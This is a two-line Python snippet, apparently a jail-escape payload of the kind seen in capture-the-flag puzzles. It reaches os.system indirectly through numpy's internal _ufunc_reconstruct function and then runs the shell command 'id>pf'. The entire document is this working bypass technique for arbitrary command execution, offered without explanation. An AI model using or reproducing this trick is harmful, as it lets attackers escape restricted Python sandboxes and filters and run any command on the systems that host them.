import numpy as np
dict(zip('a', [np]))['a'].core._ufunc_reconstruct('os', 'system')('id>pf')
